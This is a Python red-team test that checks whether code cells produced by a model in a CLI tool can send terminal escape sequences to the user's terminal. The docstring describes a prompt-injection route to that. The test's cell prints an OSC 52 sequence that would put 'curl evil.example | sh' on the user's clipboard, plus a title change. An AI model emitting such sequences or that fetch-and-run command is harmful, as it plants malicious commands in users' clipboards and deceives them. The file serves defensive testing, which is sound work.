"""Red team: what a cell (or the model) prints reaches the user's terminal as control sequences.

`_cli_render` prints cell output as rich `Text`, never as markup, so a model
cannot *style* it. But rich's `Text` strips only a few C0 controls (BEL,
BS, VT, FF, CR): ESC passes through, so OSC and CSI sequences a cell prints
reach the terminal of whoever runs ``cavelite``. An OSC string can be ended
with ``ESC \\`` instead of BEL. A cell can then set the user's clipboard
(OSC 52, honoured by xterm, kitty, iTerm2, WezTerm, tmux), retitle the
window, clear the screen and draw a fake prompt or answer. The data a
model reads can carry such a cell (prompt injection), so this is the
host's terminal obeying untrusted bytes.

The test runs the real command in a pseudo-terminal and checks the raw
bytes written to it.
"""

from __future__ import annotations

import pytest
from fakes import fixtures as loopback
from fakes.terminal import Terminal
from test_cli_terminal import COMMAND, env, py  # noqa: F401 - env is a fixture

openai_server = loopback.openai_server
openai_api = loopback.openai_api

CLIPBOARD = b"\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA=="  # base64 of "curl evil.example | sh"
TITLE = b"\x1b]0;cave-owned-your-title"

# Built at run time from chr(27): the model's reply holds no escape character itself.
CELL = py("E = chr(27)\n"
          "print(E + ']52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==' + E + '\\\\')\n"
          "print(E + ']0;cave-owned-your-title' + E + '\\\\')\n"
          "print('ordinary output')")


@pytest.mark.xfail(strict=True, reason="red team: cell output reaches the terminal with ESC "
                   "intact (rich Text keeps it): OSC 52 sets the user's clipboard, OSC 0 the "
                   "window title")
def test_cell_output_cannot_drive_the_users_terminal(openai_api, env) -> None:  # noqa: F811
    openai_api.reply(CELL)
    openai_api.reply("Done.")
    term = Terminal([*COMMAND, "run", "show it", "--base-url", openai_api.url], env=env)
    try:
        term.expect("ordinary output")
        term.expect("Done")
        term.wait()
        assert CLIPBOARD not in term.raw, "the cell wrote the user's clipboard (OSC 52)"
        assert TITLE not in term.raw, "the cell retitled the user's terminal (OSC 0)"
    finally:
        term.close()
